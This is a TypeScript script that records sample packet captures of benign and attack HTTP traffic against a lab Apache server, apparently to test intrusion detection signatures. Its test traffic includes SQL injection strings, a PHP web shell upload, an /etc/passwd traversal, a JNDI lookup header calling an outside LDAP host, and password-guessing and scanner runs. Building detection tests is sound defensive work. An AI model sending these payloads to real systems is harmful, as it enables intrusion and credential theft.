/**
 * Records the sample captures of pcaps/ from a real Apache and real clients in network namespaces, and writes beside
 * each what it holds. Usage: npm run record-pcaps [-- DIR] (root; see labMissing). The alerts each capture must give
 * are not written here but by hand into pcaps/expected.json: a recording is not its own proof.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadExamples, type Message } from './examples.js';
import { Lab, labMissing, pageText, ServerIp } from './lab.js';
import { randomFill } from './seeded.js';

const target = process.argv[2] ?? 'pcaps';

function content(root: string): void {
  for (const dir of ['packed', 'zipped', 'private', 'files', 'img']) mkdirSync(join(root, dir));
  for (let i = 1; i <= 12; i++) writeFileSync(join(root, `page${i}.html`), pageText(i, 800 * i));
  writeFileSync(join(root, 'style.css'), 'body { font-family: sans-serif; margin: 2em }\n'.repeat(20));
  writeFileSync(join(root, 'app.js'), 'function greet(name) { return "hello " + name; }\n'.repeat(40));
  writeFileSync(
    join(root, 'img', 'logo.png'),
    Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomFill(9000, 7)]),
  );
  writeFileSync(join(root, 'packed', 'long.html'), pageText(77, 60_000));
  writeFileSync(join(root, 'zipped', 'long.html'), pageText(78, 60_000));
  writeFileSync(join(root, 'files', 'notes.html'), pageText(79, 500));
  writeFileSync(join(root, 'private', 'index.html'), pageText(80, 500));
}

/** Sends an example with curl: method, headers and body as written. */
function send(lab: Lab, m: Message, repeat: number): void {
  const args = ['-X', m.method ?? (m.body === undefined ? 'GET' : 'POST')];
  const headers = { 'User-Agent': 'Mozilla/5.0', ...m.headers };
  for (const [k, v] of Object.entries(headers)) args.push('-H', `${k}: ${v}`);
  for (let i = 0; i < repeat; i++) {
    if (m.body === undefined) lab.curl(m.uri ?? '/', ...args);
    else
      lab.inClient(
        'curl',
        [
          '-s',
          '-g',
          '-o',
          '/dev/null',
          '--path-as-is',
          '-H',
          'Host: www.example.com',
          ...args,
          '--data-binary',
          '@-',
          `http://${ServerIp}${m.uri ?? '/'}`,
        ],
        Buffer.from(m.body, 'latin1'),
      );
  }
}

const families: Record<string, [from: number, to: number]> = {
  'attack-sql-injection': [5100001, 5100099],
  'attack-cross-site-scripting': [5100101, 5100199],
  'attack-path-traversal': [5100201, 5100299],
  'attack-command-injection': [5100301, 5100399],
  'attack-code-injection': [5100401, 5100499],
  'attack-template-xml-ssrf': [5100501, 5100599],
  'attack-web-shells': [5100601, 5100699],
  'attack-sensitive-files': [5100701, 5100799],
};

function browse(lab: Lab): void {
  for (let i = 1; i <= 12; i++) {
    lab.curl(
      `/page${i}.html`,
      '-H',
      'Referer: http://www.example.com/',
      '--next',
      '-s',
      '-o',
      '/dev/null',
      `http://${ServerIp}/style.css`,
    );
  }
  lab.curl('/img/logo.png');
  lab.curl('/app.js', '-H', 'If-Modified-Since: Mon, 01 Jan 2035 00:00:00 GMT');
  lab.curl('/', '-I');
  lab.curl('/search?q=rock%27n%27roll+union+of+players', '-A', 'Mozilla/5.0 (X11; Linux x86_64)');
  lab.curl('/cgi-bin/form', '-d', 'name=Ann&text=hello+world');
  lab.curl('/private/', '-u', 'ann:password');
}

function pipelining(lab: Lab): void {
  const requests = Array.from({ length: 12 }, (_, i) => {
    const path = i === 6 ? '/item?id=1%20UNION%20SELECT%20name%20FROM%20users' : `/page${i + 1}.html`;
    return `GET ${path} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: pipeline/1\r\n${i === 11 ? 'Connection: close\r\n' : ''}\r\n`;
  }).join('');
  // bash's own sockets: curl does not pipeline.
  lab.inClient('bash', ['-c', `exec 3<>/dev/tcp/${ServerIp}/80; cat >&3; cat <&3 >/dev/null`], requests);
}

function chunked(lab: Lab): void {
  lab.inClient(
    'curl',
    [
      '-s',
      '-o',
      '/dev/null',
      '-H',
      'Transfer-Encoding: chunked',
      '-H',
      'Expect:',
      '--data-binary',
      '@-',
      `http://${ServerIp}/cgi-bin/form`,
    ],
    `text=${pageText(5, 30_000)}`,
  );
  lab.inClient(
    'curl',
    [
      '-s',
      '-o',
      '/dev/null',
      '-H',
      'Transfer-Encoding: chunked',
      '--data-binary',
      '@-',
      `http://${ServerIp}/cgi-bin/form`,
    ],
    "q=x' or '1'='1",
  );
  lab.inClient(
    'curl',
    ['-s', '-o', '/dev/null', '-F', 'file=@-;filename=shell.php', `http://${ServerIp}/cgi-bin/form`],
    '<?php system($_GET["c"]); ?>',
  );
}

function compressed(lab: Lab): void {
  lab.curl('/zipped/long.html', '--compressed');
  lab.curl('/packed/long.html', '-H', 'Accept-Encoding: br');
  lab.curl('/packed/long.html', '-H', 'Accept-Encoding: gzip');
}

function leaks(lab: Lab): void {
  for (const what of ['sql', 'passwd', 'id', 'key', 'trace']) lab.curl(`/cgi-bin/leak?${what}`);
  lab.curl('/files/');
  lab.curl('/private/', '-u', 'tomcat:tomcat');
  for (let i = 0; i < 11; i++) lab.curl('/private/', '-u', `ann:guess${i}`);
}

async function main(): Promise<void> {
  const missing = labMissing();
  if (missing !== '') throw new Error(`recording ${missing}`);
  const examples = loadExamples('signatures/examples.yaml');
  const lab = new Lab({ content });
  try {
    const take = (name: string, work: () => void) => lab.record(join(target, `${name}.pcap`), work);
    await take('browsing', () => browse(lab));
    for (const [name, [from, to]] of Object.entries(families)) {
      const mine = examples.filter((e) => e.sid >= from && e.sid <= to && e.fire.response === undefined);
      await take(name, () => {
        for (const e of mine) send(lab, e.fire, 1);
        for (const e of mine) send(lab, e.quiet, 1);
      });
    }
    await take('attack-leaks-and-logins', () => leaks(lab));
    await take('scanner', () => {
      writeFileSync(
        join(lab.dir, 'words'),
        readFileSync('signatures/examples.yaml', 'utf8')
          .match(/[a-z]{5,9}/g)!
          .slice(0, 120)
          .join('\n'),
      );
      lab.inClient('dirb', [`http://${ServerIp}/`, join(lab.dir, 'words'), '-S', '-r', '-a', 'dirb/2.22']);
      lab.curl('/', '-A', 'Mozilla/5.00 (Nikto/2.5.0)');
    });
    await take('pipelining', () => pipelining(lab));
    await take('chunked', () => chunked(lab));
    await take('compressed', () => compressed(lab));
    await take(
      'keep-alive',
      () => void lab.inClient('ab', ['-q', '-n', '300', '-c', '4', '-k', `http://${ServerIp}/page3.html`]),
    );
    await take('offload-443', () => {
      lab.inClient('curl', ['-s', '-o', '/dev/null', '-g', `http://${ServerIp}:443/page1.html`]);
      lab.inClient('curl', ['-s', '-o', '/dev/null', '-g', `http://${ServerIp}:443/view?file=/etc/passwd`]);
      lab.inClient('curl', [
        '-s',
        '-o',
        '/dev/null',
        '-g',
        '-H',
        'X-Api-Version: ${jndi:ldap://192.0.2.1/a}',
        `http://${ServerIp}:443/`,
      ]);
    });
  } finally {
    lab.close();
  }
}

await main();
